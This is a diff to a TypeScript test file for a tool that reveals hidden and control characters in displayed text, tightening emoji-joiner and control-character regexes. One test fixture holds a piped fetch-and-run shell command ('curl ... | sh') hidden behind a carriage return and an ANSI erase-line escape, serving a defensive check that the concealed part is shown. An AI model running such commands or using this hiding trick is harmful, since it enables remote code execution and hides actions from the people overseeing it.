@@ -30,7 +30,7 @@ const STILL_HIDDEN =
   /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{Cn}\p{Default_Ignorable_Code_Point}\u2800\u00A0\u2000-\u200A\u3000]/u;
 /** What emoji sequences legitimately hold: a joiner between emoji, a selector after one. */
 const EMOJI_GLUE =
-  /(?<=\p{Extended_Pictographic}[\uFE0F\u{1F3FB}-\u{1F3FF}]?)\u200D(?=\p{Extended_Pictographic})|(?<=\p{Extended_Pictographic}|[\u{1F3FB}-\u{1F3FF}])[\uFE0E\uFE0F]/gu;
+  /(?<=\p{Extended_Pictographic}(?:\uFE0F|\p{Emoji_Modifier})?)\u200D(?=\p{Extended_Pictographic})|(?<=\p{Extended_Pictographic}|\p{Emoji_Modifier})(?:\uFE0E|\uFE0F)/gu;
 function plainPartsAreSafe(shown: string, lines = false) {
   for (const part of visibleParts(shown).filter((p) => !p.marker)) {
     const rest = (lines ? part.text.replace(/[\n\t]/g, "") : part.text).replace(EMOJI_GLUE, "");
@@ -42,7 +42,7 @@ test("the hidden tail of a shell command is shown: ESC, CR and erase-line are ma
   const command = "curl -s http://127.0.0.1:9/p | sh; \r\x1b[2Kls -la";
   const shown = visibleText(command);
   assert.equal(shown, "curl -s http://127.0.0.1:9/p | sh; ⟨CR⟩⟨ESC⟩[2Kls -la");
-  assert.doesNotMatch(shown, /[\x00-\x1f\x7f]/);
+  assert.doesNotMatch(shown, /\p{Cc}/u);
   assert.equal(decode(shown), command);
 });
 
